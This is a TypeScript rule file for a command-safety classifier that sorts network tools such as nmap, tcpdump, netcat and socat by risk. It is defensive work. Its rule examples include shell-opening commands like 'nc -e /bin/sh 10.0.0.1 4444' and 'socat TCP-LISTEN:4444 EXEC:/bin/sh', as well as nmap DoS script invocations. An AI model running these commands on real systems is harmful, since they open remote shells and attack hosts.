import type { Program } from '../program.js';
import { adds, hides } from '../rule-kinds.js';
import { asksSocket, judgeSentText } from './sent-text.js';
import { judgeOutputOptions, readers, words } from './outputs.js';

export const NETWORK_INFO: readonly Program[] = [
  readers('Asks the network something.', [
    'ping ping4 ping6 fping hping3 oping noping traceroute traceroute6 tracepath tracepath6',
    'tcptraceroute lft mtr mtr-packet trip gping arping ndisc6 rdisc6 dig drill kdig delv host',
    'nslookup doggo dog whois jwhois speedtest speedtest-cli fast librespeed-cli ssh-keyscan',
    'showmount rpcinfo nfsstat nfsiostat mountstats cifsiostat smbstatus smbtree nmblookup',
    'avahi-browse avahi-resolve avahi-resolve-host-name arp-scan netdiscover nbtscan masscan zmap',
    'sslscan sslyze testssl testssl.sh tlsx httping httpstat ab wrk hey siege vegeta snmpget',
    'snmpwalk snmpbulkwalk snmpgetnext snmptable snmpstatus snmptranslate lldpcli lldpctl cdpr',
    'dhcping ldapsearch ldapwhoami ldapcompare kvno wbinfo radtest tnsping',
    'check_http check_tcp check_ping check_disk check_load',
  ]),
  readers('Shows the connections and traffic of the host.', [
    'ss netstat sockstat nethogs iftop iptraf iptraf-ng bmon nload vnstat vnstati ifstat bwm-ng',
    'speedometer cbm tcptrack jnettop bandwhich nstat rtacct iwgetid iwlist wavemon',
    'mii-diag wpa_passphrase',
  ]),
  {
    names: ['nmap', 'rustscan', 'zenmap'],
    style: {
      valued: words('-oN -oX -oG -oA -oS -p -iL -e -S --script --script-args --exclude --datadir'),
      singleDashLong: true,
    },
    rules: [
      hides('medium', {
        id: 'nmap.script',
        when: {
          anyOption: ['--script'],
          test: (given) =>
            given
              .valuesOf('--script')
              .some(
                (word) =>
                  word.unknown ||
                  word.values.some((value) => /[/.]|brute|dos|exploit|intrusive|malware|vuln|fuzzer|all/.test(value)),
              ),
        },
        targets: 'operands',
        targetKind: 'host',
        why: 'Runs scripts against {target} that may do harm there.',
        matches: ['nmap --script=dos 10.0.0.1', 'nmap --script ./x.nse 10.0.0.1'],
        misses: ['nmap -sn 10.0.0.0/24', 'nmap -sV -p 22 host', 'nmap --script ssl-cert -p 443 host'],
      }),
    ],
    judge: judgeOutputOptions('-oN', '-oX', '-oG', '-oS'),
    otherwise: 'read_only',
    why: 'Looks which ports are open.',
  },
  {
    names: [
      'tcpdump',
      'tshark',
      'dumpcap',
      'ngrep',
      'wireshark',
      'termshark',
      'tcpflow',
      'capinfos',
      'editcap',
      'mergecap',
      'pktcap-uw',
    ],
    style: {
      valued: words('-w -r -i -c -C -G -W -z -Z -s -f -Y -T -e -a -b -F -o -O'),
    },
    rules: [
      hides('high', {
        id: 'tcpdump.command',
        when: { anyOption: ['-z'], test: (_given, { program }) => program === 'tcpdump' },
        why: 'Runs a program on every file of packets that it has finished.',
        matches: ['tcpdump -i eth0 -w x.pcap -G 1 -z ./run.sh'],
        misses: ['tcpdump -nn -i eth0 port 22', 'tcpdump -w /tmp/x.pcap'],
      }),
    ],
    judge: judgeOutputOptions('-w'),
    otherwise: 'read_only',
    why: 'Listens to the network.',
  },
  {
    names: ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'telnet', 'socat', 'cryptcat'],
    style: {
      valued: words('-p -s -w -e -c -i -x -X -q -o -b --exec --sh-exec --lua-exec'),
    },
    rules: [
      hides('critical', {
        id: 'nc.exec',
        when: {
          anyOption: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'],
          test: (_given, { program }) => program !== 'socat' && program !== 'telnet',
        },
        why: 'Connects a program to the network: whoever is at the other end uses it.',
        matches: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat --sh-exec sh -l 4444'],
        misses: ['nc -zv host 22', 'nc -l 9000'],
      }),
      hides('high', {
        id: 'socat.connect',
        when: {
          test: (given, execution) => execution.program === 'socat' && !asksSocket(given, execution),
          minOperands: 1,
        },
        why: 'Connects two ends, of which either can be a program, a file or a device.',
        matches: ['socat TCP-LISTEN:4444 EXEC:/bin/sh', 'socat - OPEN:/dev/sda'],
        misses: ['socat -V'],
      }),
      adds({
        id: 'nc.connect',
        when: {
          minOperands: 1,
          noOption: ['-z', '-e', '-c', '--exec', '--sh-exec'],
          test: (_given, { program }) => program !== 'socat',
        },
        targets: 'none',
        why: 'Sends what it is given, and prints what comes.',
        matches: ['nc host 80', 'telnet host 25', 'nc -l 9000'],
        misses: ['nc -zv host 22'],
      }),
    ],
    judge: judgeSentText,
    otherwise: 'read_only',
    why: 'Looks whether something answers.',
  },
  {
    names: ['iperf', 'iperf3', 'netperf', 'qperf', 'nuttcp'],
    style: {},
    rules: [],
    otherwise: 'read_only',
    why: 'Measures the network.',
  },
];
